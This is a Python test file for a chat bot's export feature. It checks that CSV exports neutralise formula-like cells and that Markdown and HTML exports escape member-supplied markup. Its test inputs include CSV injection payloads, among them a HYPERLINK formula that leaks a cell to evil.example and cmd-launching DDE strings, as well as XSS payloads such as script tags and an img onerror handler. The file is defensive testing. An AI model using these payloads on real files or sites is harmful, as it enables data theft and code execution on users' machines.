"""A dialogue's exports run nothing where they are opened: spreadsheets, Markdown, HTML."""

from __future__ import annotations

import csv
import io
import re

from bot.core.export_safety import FORMULA_STARTS
from bot.core.types import ChatRef, IncomingMessage, UserRef
from tests.fakes import Harness
from tests.handlers.dialogues.test_commands import _export, make_member, plan, post_due

#: Two replies for each way a spreadsheet cell becomes a formula. A platform's carriage
#: return becomes a line feed at the boundary (bot.core.text_safety), so those two reach
#: the export as text that no spreadsheet runs either way.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@mention",
    "\t=1+1",
    "\tindented",
    "\r=1+1",
    "\rreturn",
]


async def reply(harness: Harness, text: str, number: int) -> None:
    await harness.bot.handle(
        IncomingMessage(
            event_id=f"hostile-{number}",
            sender=UserRef("console", "amina", "amina"),
            chat=ChatRef("console", "community", "1"),
            text=text,
            message_id=f"h{number}",
        )
    )
    await harness.bot.drain()


async def test_csv_export_writes_formula_like_cells_as_text(harness: Harness) -> None:
    await make_member(harness, "amina", "SN")
    await plan(harness, "2026-09-22 09:00 =What changed?")
    await post_due(harness)
    for number, text in enumerate(HOSTILE):
        await reply(harness, text, number)
    rows = list(csv.DictReader(io.StringIO(await _export(harness, "csv"))))
    assert len(rows) == len(HOSTILE)
    cells = [row["text"] for row in rows] + [rows[0]["prompt_text"]]
    assert [cell for cell in cells if cell[:1] in FORMULA_STARTS] == []
    texts = [row["text"] for row in rows]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in texts
    assert "'\t=1+1" in texts
    assert "'@mention" in texts
    assert "'-2+3" in texts
    assert "'+1+1" in texts
    assert rows[0]["prompt_text"] == "'=What changed?"
    assert rows[0]["author"] == "amina"
    assert rows[0]["country"] == "SN"


async def test_markdown_export_escapes_member_html_and_links(harness: Harness) -> None:
    await make_member(harness, "amina", "SN")
    await plan(harness, "2026-09-22 09:00 What changed?")
    await post_due(harness)
    hostile = [
        "<script>alert(1)</script>",
        "[click me](javascript:alert(1))",
        "![pixel](data:image/svg+xml;base64,PHN2Zz4=)",
        "<javascript:alert(1)>",
        '<img src=x onerror="alert(1)">',
    ]
    for number, text in enumerate(hostile):
        await reply(harness, text, number)
    markdown = await _export(harness, "md")
    assert "<script>" not in markdown
    assert "<img" not in markdown
    assert "<javascript:" not in markdown
    assert re.search(r"(?<!\\)\]\(", markdown) is None  # no bracket left unescaped to open a link
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown
    assert "\\[click me\\](javascript:alert(1))" in markdown
    page = await _export(harness, "html")
    assert "<script>" not in page
    assert "<img" not in page
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in page
